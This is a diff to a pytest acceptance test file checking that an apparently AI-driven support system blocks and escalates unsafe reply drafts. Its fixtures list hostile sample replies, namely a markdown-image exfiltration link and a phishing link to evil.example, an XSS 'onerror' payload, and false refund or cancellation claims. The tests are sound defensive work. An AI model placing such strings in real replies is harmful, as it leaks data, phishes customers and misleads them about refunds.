@@ -6,9 +6,10 @@ from typing import Any
 import psycopg
 import pytest
 
-from tests.acceptance.openai.questions import E42, TECHNICAL, TWICE
+from tests.acceptance.openai.questions import E42, MEANING, TECHNICAL, TWICE
 from tests.acceptance.stack import Client
 from tests.conftest import Tenant
+from tests.doubles.adversary import reply
 from tests.doubles.openai_double import TRIAGE, OpenAIDouble
 
 
@@ -119,28 +120,36 @@ def test_doubtful_triage_brings_a_person(
     assert models.asked("Proposal") == []
 
 
+# What rules in code see, whatever both models say.
+FORBIDDEN = [
+    "We will refund you 49.00 USD tomorrow.",
+    "As an apology you get a 20% discount.",
+    "Sign in at https://evil.example/login to fix it.",
+    "![fix](http://evil.example/x.png?d=secret)",
+    "<img src=x onerror=alert(1)>",
+    "Write to help@evil.example for the fix.",
+    "Call +49 30 1234567 and we fix it.",
+]
+# What only a verifier can see.
+FALSE = ["Your refund was approved by our manager.", "We have can\u200bcelled your plan."]
+
+
 @pytest.mark.parametrize(
-    "text",
-    [
-        "We will refund you 49.00 USD tomorrow.",
-        "Your refund was approved by our manager.",
-        "As an apology you get a 20% discount.",
-        "Sign in at https://evil.example/login to fix it.",
-        "![fix](http://evil.example/x.png?d=secret)",
-        "<img src=x onerror=alert(1)>",
-        "Write to help@evil.example for the fix.",
-        "Call +49 30 1234567 and we fix it.",
-        "We have can\u200bcelled your plan.",
-    ],
+    ("text", "supported"),
+    [*((text, True) for text in FORBIDDEN), *((text, False) for text in FALSE)],
 )
-def test_forbidden_draft_is_not_sent(starter: Client, models: OpenAIDouble, text: str) -> None:
+def test_forbidden_draft_is_not_sent(
+    starter: Client, models: OpenAIDouble, text: str, *, supported: bool
+) -> None:
     """It is asked for again with the objections; a model that insists brings a person."""
     models.answers["Classification"] = TECHNICAL
-    models.answers["Reply"] = {"text": text, "citations": ["upload-error-e42"]}
+    models.answers["Reply"] = reply(text, "upload-error-e42", quote=MEANING)
+    models.answers["Support"] = {"supported": supported, "reason": "The article is silent."}
     run = starter.start("cus_eva", E42)
     assert (run["outcome"], run["escalation"]["reason"]) == ("escalated", "no_valid_reply")
     assert text not in run["reply"]["text"]
     assert not re.search(r"https?:|refund|discount|cancel|evil", run["reply"]["text"])
+    assert run["verdicts"][0]["supported"] == supported
     first, second, _third = models.asked("Reply")
     assert '"objections": []' in first["messages"][1]["content"]
     assert '"objections": []' not in second["messages"][1]["content"]
@@ -149,22 +158,32 @@ def test_forbidden_draft_is_not_sent(starter: Client, models: OpenAIDouble, text
 def test_citation_of_what_was_not_found_is_not_sent(starter: Client, models: OpenAIDouble) -> None:
     """Only articles of this run's search may be cited."""
     models.answers["Classification"] = TECHNICAL
-    models.answers["Reply"] = {"text": "Please read this.", "citations": ["no-such-article"]}
+    models.answers["Reply"] = reply("Please read this.", "no-such-article", quote=MEANING)
     run = starter.start("cus_eva", E42)
     assert (run["outcome"], run["reply"]["citations"]) == ("escalated", [])
 
 
-def test_objections_let_a_model_mend_its_draft(starter: Client, models: OpenAIDouble) -> None:
-    """A second draft that is clean is sent, and nobody is disturbed."""
+def test_objections_let_a_model_correct_its_draft(starter: Client, models: OpenAIDouble) -> None:
+    """A second draft that is clean is sent, and no person is disturbed."""
     models.answers["Classification"] = TECHNICAL
     models.answers["Reply"] = lambda body: (
-        {"text": "See www.evil.example", "citations": []}
+        reply("See www.evil.example", "upload-error-e42", quote=MEANING)
         if '"objections": []' in body["messages"][1]["content"]
-        else {"text": "Please read the article.", "citations": ["upload-error-e42"]}
+        else reply("Your upload is too large.", "upload-error-e42", quote=MEANING)
     )
     run = starter.start("cus_eva", E42)
-    assert (run["outcome"], run["reply"]["text"]) == ("answered", "Please read the article.")
+    assert run["outcome"] == "answered"
+    assert run["reply"]["text"].endswith("\n\nYour upload is too large.")
     assert len(models.asked("Reply")) == 2
+
+
+def test_verifier_that_is_down_brings_a_person(starter: Client, models: OpenAIDouble) -> None:
+    """Nothing passes unverified, and no other model says that it may."""
+    models.answers["Classification"] = TECHNICAL
+    models.failures = {"Support": 99}
+    run = starter.start("cus_eva", E42)
+    assert (run["outcome"], run["escalation"]["reason"]) == ("escalated", "node_failed")
+    assert MEANING not in run["reply"]["text"]
 
 
 @pytest.mark.parametrize(
@@ -174,7 +193,7 @@ def test_refund_is_told_as_it_was_made(
     starter: Client, approver: Client, models: OpenAIDouble, own_url: str, tenant: Tenant, text: str
 ) -> None:
     """A draft that hides or inflates what was moved gives way to the honest holding reply."""
-    models.answers["Reply"] = {"text": text, "citations": []}
+    models.answers["Reply"] = reply(text)
     run = starter.start("cus_ann", TWICE)
     approver.decide(run, "approve")
     done = starter.run(run["id"])
